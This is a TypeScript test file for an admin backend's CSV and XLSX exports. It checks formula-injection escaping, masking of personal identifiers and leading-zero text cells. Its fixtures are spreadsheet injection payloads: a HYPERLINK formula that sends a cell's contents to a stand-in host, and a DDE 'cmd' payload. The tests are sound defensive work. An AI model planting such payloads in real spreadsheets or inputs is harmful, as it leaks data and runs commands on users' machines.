import { parse } from 'csv-parse/sync'
import ExcelJS from 'exceljs'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { REPORTS } from '#contract/transactions/reports.ts'
import { createTestApp, type TestApp } from '../test/harness.ts'
import { q, seedWindow, tableOf, WINDOW } from '../test/kits/reports.ts'

let t: TestApp
let admin: string
beforeAll(async () => {
  t = await createTestApp()
  await seedWindow(t.database.db, 300)
  admin = await t.login('superadmin')
})
afterAll(() => t.close())

const HYPERLINK = '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")'
const CMD = "+1+cmd|' /C calc'!A1"

const csvOf = async (url: string, body: object) => {
  const res = await t.post(url, { format: 'csv', ...body }, admin)
  expect(res.statusCode).toBe(200)
  return parse(res.rawPayload, { bom: true }) as string[][]
}

describe('CSV exports never carry a live spreadsheet formula', () => {
  it('a resource export (the engine writes the cells) prefixes formula text with a quote', async () => {
    const added = await t.post(
      '/client/add',
      {
        code: 'FORMULA',
        name: HYPERLINK,
        npwp: '0123456789012345',
        picName: CMD,
        picPhone: '081234567890',
        picEmail: 'rumus@contoh.id',
        address: '@SUM(1+1)',
        status: 'ACTIVE',
      },
      admin,
    )
    expect(added.statusCode).toBe(200)
    const records = await csvOf('/client/export', {
      search: 'FORMULA',
      columns: ['code', 'name', 'npwp', 'picName', 'picPhone'],
    })
    // The NPWP and the PIC's phone are personal data, exported masked (issue 13, defect 8); the masked
    // phone starts with "+" and is no plain number any more, so it is quoted like any formula text.
    expect(records.slice(1)).toEqual([
      ['FORMULA', `'${HYPERLINK}`, '0123********2345', `'${CMD}`, "'+62812****7890"],
    ])
  })

  it('a report export (PostgreSQL writes the cells) does the same, and numbers stay numbers', async () => {
    const def = REPORTS[0]
    if (!def) throw new Error('no report')
    const [first] = await q(
      t.database.db,
      `select t.id, t.merchant_id from ${tableOf(def)} t order by t.created_at desc, t.id desc limit 1`,
    )
    await q(
      t.database.db,
      `update merchant set name = '${HYPERLINK.replaceAll("'", "''")}' where id = ${first?.merchant_id}`,
    )
    await q(t.database.db, `update ${tableOf(def)} set amount = -1500 where id = ${first?.id}`)
    const records = await csvOf(`/${def.apiPath}/export`, {
      ...WINDOW,
      columns: ['merchantName', 'amount'],
      filters: { merchantId: Number(first?.merchant_id) },
    })
    expect(records[0]).toEqual(['Merchant', def.columns.find((c) => c.key === 'amount')?.label])
    expect(records[1]).toEqual([`'${HYPERLINK}`, '-1500'])
    expect(records.slice(1).every((r) => r[0] === `'${HYPERLINK}`)).toBe(true)
    expect(records.slice(2).every((r) => /^\d+$/.test(r[1] ?? ''))).toBe(true)
  })
})

describe('XLSX exports keep identifiers as text', () => {
  const sheetOf = async (url: string, body: object) => {
    const res = await t.post(url, { format: 'xlsx', ...body }, admin)
    expect(res.statusCode).toBe(200)
    const wb = new ExcelJS.Workbook()
    await wb.xlsx.load(res.rawPayload as unknown as ArrayBuffer)
    const ws = wb.worksheets[0]
    if (!ws) throw new Error('no sheet')
    return ws
  }
  const MID = '000000000004321'

  it('a MID with leading zeros is a text cell in a text-formatted column; a number stays a number', async () => {
    const [merchant] = await q(t.database.db, 'select id from merchant order by id limit 1')
    await q(
      t.database.db,
      `update merchant set mid = '${MID}', owner_nik = '0012345678901234' where id = ${merchant?.id}`,
    )
    const ws = await sheetOf('/merchant/export', { search: MID, columns: ['mid', 'ownerNik', 'name'] })
    expect(ws.actualRowCount).toBe(2)
    const headers = ws.getRow(1).values as unknown[]
    const cell = (label: string) => ws.getRow(2).getCell(headers.indexOf(label))
    const mid = cell('MID')
    expect(mid.type).toBe(ExcelJS.ValueType.String)
    expect(mid.value).toBe(MID)
    expect(mid.numFmt).toBe('@')
    // Personal data is exported masked (issue 13, defect 8), still as text.
    expect(cell('NIK Pemilik').value).toBe('0012********1234')
    expect(cell('NIK Pemilik').numFmt).toBe('@')

    const def = REPORTS[0]
    if (!def) throw new Error('no report')
    const [trx] = await q(
      t.database.db,
      `select t.merchant_id from ${tableOf(def)} t order by t.created_at desc, t.id desc limit 1`,
    )
    await q(t.database.db, `update merchant set mid = '000000000009876' where id = ${trx?.merchant_id}`)
    const report = await sheetOf(`/${def.apiPath}/export`, {
      ...WINDOW,
      columns: ['merchantMid', 'amount'],
      filters: { merchantId: Number(trx?.merchant_id) },
    })
    const row = report.getRow(2)
    expect(row.getCell(1).value).toBe('000000000009876')
    expect(row.getCell(1).numFmt).toBe('@')
    expect(row.getCell(2).type).toBe(ExcelJS.ValueType.Number)
  })
})
